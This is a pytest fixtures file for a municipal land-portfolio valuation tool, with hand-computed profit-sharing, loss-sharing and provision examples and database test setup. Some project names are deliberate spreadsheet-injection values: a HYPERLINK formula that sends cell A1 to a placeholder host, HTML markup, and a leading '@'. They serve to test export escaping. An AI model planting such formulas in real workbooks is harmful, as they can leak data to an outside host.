"""Shared fixtures: portfolio workbooks built in code."""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

import pandas as pd
import pytest

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from hypothesis import settings as hypothesis_settings  # noqa: E402

from igemo_fin.exports.workbook_writer import write_workbook  # noqa: E402

# Wall-clock deadlines make property tests flaky on a busy 2-core CI machine; the properties, not
# the speed, are what these tests check (speed lives in benchmarks/).
hypothesis_settings.register_profile("igemo", deadline=None, print_blob=True)
hypothesis_settings.load_profile("igemo")

DEMO_WORKBOOK = ROOT / "data" / "demo_portefeuille.xlsx"


def load_script(name: str):
    """A script of scripts/ loaded as a module (the folder is no package)."""
    return load_module(ROOT / "scripts" / f"{name}.py")


def load_module(path: Path):
    """A script outside the packages (scripts/, deploy/) loaded as a module named after its file."""
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while the script loads
    spec.loader.exec_module(module)
    return module


def project(code: str, **overrides) -> dict:
    """A project row with sensible defaults for tests."""
    row = dict(project_code=code, naam=f"Project {code}", gemeente="Mechelen", type="bedrijventerrein",
               status="actief", startjaar=2023, eindjaar=2026, oppervlakte_m2=10_000, bestemming_zeker="ja",
               marktwaarde_huidige_staat=None, risicodeling_gemeente_pct=None, risicodeling_plafond=None,
               winstdeling_gemeente_pct=None, winstdeling_drempel=None)
    row.update(overrides)
    return row


def flat_credit(first: int = 2010, last: int = 2045, rate: float = 4.0, limit: float = 50e6,
                actual: dict[int, float] | None = None, rates: dict[int, float] | None = None) -> pd.DataFrame:
    years = list(range(first, last + 1))
    frame = pd.DataFrame({"jaar": years, "rentevoet_pct": [(rates or {}).get(y, rate) for y in years],
                          "kredietlimiet": limit})
    frame["rente_werkelijk"] = [(actual or {}).get(y) for y in years]
    return frame


def flows(*rows) -> pd.DataFrame:
    """``flows(("A", "prognose", 2023, "verwerving", 1e6), ...)``."""
    return pd.DataFrame(list(rows), columns=["project_code", "versie", "jaar", "categorie", "bedrag"])


def thresholds(**values) -> pd.DataFrame:
    return pd.DataFrame({"parameter": list(values), "waarde": list(values.values())})


def build_sheets(projects: list[dict], cashflows: pd.DataFrame, credit: pd.DataFrame | None = None,
                 drempels: pd.DataFrame | None = None, **extra: pd.DataFrame) -> dict[str, pd.DataFrame]:
    sheets = {
        "projecten": pd.DataFrame(projects),
        "kasstromen": cashflows,
        "kaskrediet": credit if credit is not None else flat_credit(),
        "drempels": drempels if drempels is not None else thresholds(),
    }
    sheets.update(extra)
    return sheets


@pytest.fixture
def write_book(tmp_path):
    """Write sheets to an .xlsx in tmp_path and return its path."""
    counter = {"n": 0}

    def _write(sheets: dict[str, pd.DataFrame], name: str | None = None) -> Path:
        counter["n"] += 1
        path = tmp_path / (name or f"book{counter['n']}.xlsx")
        write_workbook(sheets, path)
        return path

    return _write


#: Two projects: A with a budget and a forecast (a studies line with cents), B forecast only.
TWO_PROJECT_FLOWS = flows(
    ("A", "begroting", 2023, "verwerving", 1_000_000), ("A", "begroting", 2025, "verkoop", 1_500_000),
    ("A", "prognose", 2023, "verwerving", 1_000_000), ("A", "prognose", 2024, "studies", 50_000.25),
    ("A", "prognose", 2025, "verkoop", 1_400_000),
    ("B", "prognose", 2024, "infrastructuur", 300_000), ("B", "prognose", 2026, "verkoop", 500_000),
)


@pytest.fixture
def book(write_book):
    """Read a workbook built from projects (default A and B) and cash flows (default TWO_PROJECT_FLOWS)."""
    from igemo_fin.inputs.workbook import read_workbook

    def _book(projects=None, cashflows=TWO_PROJECT_FLOWS, **extra):
        projects = projects or [project("A"), project("B")]
        return read_workbook(write_book(build_sheets(projects, cashflows, **extra)))
    return _book


# --------------------------------------------------------------------------- obligations worked out by hand

#: Valuation year of :func:`sharing_book`: the past is 2022-2024.
SHARING_YEAR = 2025


def sharing_sheets() -> dict[str, pd.DataFrame]:
    """Five projects whose obligations are worked out by hand, at a 0 % cash-credit rate.

    At 0 % every result is the plain sum of the flows, so the arithmetic stays on paper.
    Valuation year V = 2025 (the past is 2022-2024).

    Project W (Mechelen): winstdeling 40 % above a threshold of 50,000.
        2022 verwerving 400,000 | 2023 infrastructuur 600,000 | 2024 verkoop 250,000
        2025 verkoop 500,000    | 2026 verkoop 500,000
        result = 1,250,000 - 1,000,000 = 250,000; above threshold 200,000; owed = 40 % = 80,000
        POC(V) = (1,000,000 / 1,000,000) * (250,000 / 1,250,000) = 0.2 -> provision 16,000
        POC at year ends: 2022 0.4 * 0 = 0 | 2023 1 * 0 = 0 | 2024 0.2 | 2025 1 * 750/1250 = 0.6 | 2026 1
        provision closing: 0 | 0 | 16,000 | 48,000 | 80,000

    Project Q (Mechelen): winstdeling 10 %, no threshold; the provision lands on half a cent.
        2024 verwerving 300,000, verkoop 550,001.50 | 2025 infrastructuur 700,000, verkoop 550,001.50
        result = 1,100,003 - 1,000,000 = 100,003; owed = 10,000.30
        POC(V) = (300,000 / 1,000,000) * (550,001.50 / 1,100,003) = 0.3 * 0.5 = 0.15
        provision = 10,000.30 * 0.15 = 1,500.045 -> half up 1,500.05 (Python's round() of the float
        product gives 1,500.04)

    Project L (Bonheiden): a loss, risicodeling 40 % capped at 150,000; its name looks like a formula.
        2023 verwerving 1,000,000 | 2026 verkoop 500,000 -> result -500,000, loss 500,000
        40 % = 200,000 > cap -> municipality 150,000, IGEMO 350,000 = write-down
        book value at 1/1/2025 = 1,000,000 -> all of it on the stock

    Project H (Bonheiden): a loss of 10.01 split 50/50 without cap.
        2024 verwerving 100,000.01 | 2025 verkoop 99,990 -> result -10.01
        50 % = 5.005 -> municipality 5.01 (half up), IGEMO 5.00

    Project P (Putte): winstdeling 50 %, nothing sold yet.
        2024 verwerving 100,000 | 2025 verkoop 200,000.01 -> result 100,000.01
        owed = 50,000.005 -> 50,000.01; POC = 1 * 0 = 0 -> provision 0
    """
    projects = [
        project("W", gemeente="Mechelen", winstdeling_gemeente_pct=40, winstdeling_drempel=50_000),
        project("Q", gemeente="Mechelen", winstdeling_gemeente_pct=10),
        project("L", gemeente="Bonheiden", naam="=HYPERLINK(\"http://x\")", risicodeling_gemeente_pct=40,
                risicodeling_plafond=150_000),
        project("H", gemeente="Bonheiden", risicodeling_gemeente_pct=50),
        project("P", gemeente="Putte", winstdeling_gemeente_pct=50),
    ]
    cashflows = flows(
        ("W", "prognose", 2022, "verwerving", 400_000), ("W", "prognose", 2023, "infrastructuur", 600_000),
        ("W", "prognose", 2024, "verkoop", 250_000), ("W", "prognose", 2025, "verkoop", 500_000),
        ("W", "prognose", 2026, "verkoop", 500_000),
        ("Q", "prognose", 2024, "verwerving", 300_000), ("Q", "prognose", 2024, "verkoop", 550_001.50),
        ("Q", "prognose", 2025, "infrastructuur", 700_000), ("Q", "prognose", 2025, "verkoop", 550_001.50),
        ("L", "prognose", 2023, "verwerving", 1_000_000), ("L", "prognose", 2026, "verkoop", 500_000),
        ("H", "prognose", 2024, "verwerving", 100_000.01), ("H", "prognose", 2025, "verkoop", 99_990),
        ("P", "prognose", 2024, "verwerving", 100_000), ("P", "prognose", 2025, "verkoop", 200_000.01),
    )
    return build_sheets(projects, cashflows, flat_credit(rate=0.0))


@pytest.fixture
def sharing_book(write_book):
    """``(portfolio, evaluation)`` of :func:`sharing_sheets` valued at :data:`SHARING_YEAR`."""
    from igemo_fin.inputs.workbook import read_workbook
    from igemo_fin.valuation.evaluate import evaluate

    portfolio = read_workbook(write_book(sharing_sheets()))
    return portfolio, evaluate(portfolio, valuation_year=SHARING_YEAR)


def row_of(frame: pd.DataFrame, code: str) -> pd.Series:
    """The row of project ``code`` in a per-project frame."""
    return frame.set_index("project_code").loc[code]



# --------------------------------------------------------------------------- the board pack's portfolios

#: A project name that is a formula and markup at once.
HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"klik") <b>Oud & Nieuw</b>'


def allocated_portfolio():
    """Four projects over 2018-2030, valued on 1/1/2024, with actual interest for 2020-2023.

    - A: buys in 2019-2020, sells 2021-2027 (a plain IRR).
    - B: a loss maker (negative IRR) running across the actual-interest years.
    - C'1 (a quote in the code, so in the sheet reference): costs only, no IRR; its name is a
      formula and markup, its municipality starts with '@'.
    - D: finished in 2022.
    2020 and 2024 are leap years (366 days); 2022's actual interest is 0.37 off whole euros.
    """
    from igemo_fin.exports.workbook_writer import workbook_bytes
    from igemo_fin.inputs.workbook import read_workbook
    from igemo_fin.valuation.evaluate import evaluate

    V = 2024
    sheets = build_sheets(
        [project("A", startjaar=2019, eindjaar=2027),
         project("B", startjaar=2020, eindjaar=2029, bestemming_zeker="nee", marktwaarde_huidige_staat=900_000),
         project("C'1", naam=HOSTILE_NAME, gemeente="@Mechelen", startjaar=2021, eindjaar=2026),
         project("D", status="afgerond", startjaar=2018, eindjaar=2022)],
        flows(("A", "prognose", 2019, "verwerving", 2_000_000), ("A", "prognose", 2020, "infrastructuur", 1_500_000),
              *[("A", "prognose", y, "verkoop", 700_000) for y in range(2021, 2028)],
              ("B", "prognose", 2020, "verwerving", 3_000_000), ("B", "prognose", 2022, "studies", 250_000),
              ("B", "prognose", 2024, "infrastructuur", 800_000),
              *[("B", "prognose", y, "verkoop", 650_000) for y in range(2025, 2030)],
              ("B", "prognose", 2027, "subsidies", 100_000),
              ("C'1", "prognose", 2021, "verwerving", 400_000), ("C'1", "prognose", 2023, "studies", 60_000),
              ("C'1", "prognose", 2026, "overige_kosten", 30_000),
              ("D", "prognose", 2018, "verwerving", 900_000), ("D", "prognose", 2019, "infrastructuur", 300_000),
              ("D", "prognose", 2021, "verkoop", 800_000), ("D", "prognose", 2022, "verkoop", 600_000)),
        credit=flat_credit(2015, 2035, rate=3.0, rates={2022: 1.2, 2023: 4.1, 2024: 3.9, 2025: 3.6},
                           actual={2020: 130_000, 2021: 180_500.25, 2022: 96_000.37, 2023: 301_234.56}),
        drempels=thresholds(min_irr_pct=4.0),
        instellingen=pd.DataFrame({"parameter": ["waarderingsjaar", "eigen_vermogen"], "waarde": [V, 5_000_000]}),
    )
    portfolio = read_workbook(workbook_bytes(sheets), filename="toegerekend.xlsx")
    return portfolio, evaluate(portfolio)


@pytest.fixture(scope="module")
def pack_demo():
    """``(portfolio, evaluation)`` of the demo workbook."""
    from igemo_fin.inputs.workbook import read_workbook
    from igemo_fin.valuation.evaluate import evaluate

    portfolio = read_workbook(DEMO_WORKBOOK)
    return portfolio, evaluate(portfolio)


@pytest.fixture(scope="module")
def pack_allocated():
    """:func:`allocated_portfolio`."""
    return allocated_portfolio()


def in_own_thread(function, *args):
    """Run ``function(*args)`` in a thread of its own: the browser tests' Playwright keeps an event loop
    running in the main thread, so ``asyncio.run`` there fails once they have run."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=1) as pool:
        return pool.submit(function, *args).result()


def run_async(coroutine):
    """``asyncio.run(coroutine)`` in a thread of its own (see :func:`in_own_thread`)."""
    import asyncio

    return in_own_thread(asyncio.run, coroutine)


# --------------------------------------------------------------------------- both database backends

@pytest.fixture(scope="session")
def pg_server():
    """A real PostgreSQL server for the whole session (scripts/scratch_postgres.py), stopped at the end."""
    scratch = load_script("scratch_postgres")
    if scratch.postgres_bin() is None:
        pytest.skip("Debian's postgresql package is not installed (apt-get install postgresql): "
                    "the PostgreSQL half of the store tests cannot run")
    server = scratch.ScratchPostgres().start()
    yield server
    server.stop()


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request, tmp_path):
    """An empty database of each backend: a SQLite file path, or a new PostgreSQL database's URL."""
    if request.param == "sqlite":
        yield tmp_path / "store.db"
        return
    server = request.getfixturevalue("pg_server")
    url = server.new_database()
    yield url
    server.drop_database(url)


# --------------------------------------------------------------------------- a write in the same clock tick

def _stat(path: Path) -> tuple:
    files = [path, path.with_name(path.name + "-wal")]
    return tuple((f.stat().st_mtime_ns, f.stat().st_size) if f.exists() else None for f in files)


def _checkpoint(path: Path) -> None:
    import sqlite3

    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")


def file_stamps(path: Path) -> tuple:
    """What the caches keyed on before the store had a generation: the SQLite file's and its WAL's
    modification time and size, after a checkpoint that empties the WAL."""
    _checkpoint(path)
    return _stat(path)


def as_if_in_one_clock_tick(path: Path, stamps: tuple) -> None:
    """Checkpoint the file, then set its and its WAL's modification times back to ``stamps``: as after a
    write within the same tick of the kernel's clock as the one before. The sizes must be the same."""
    import os

    _checkpoint(path)
    files = [path, path.with_name(path.name + "-wal")]
    for f, stamp in zip(files, stamps):
        if stamp is not None:
            os.utime(f, ns=(stamp[0], stamp[0]))
    assert _stat(path) == stamps, "the write changed a file's size"
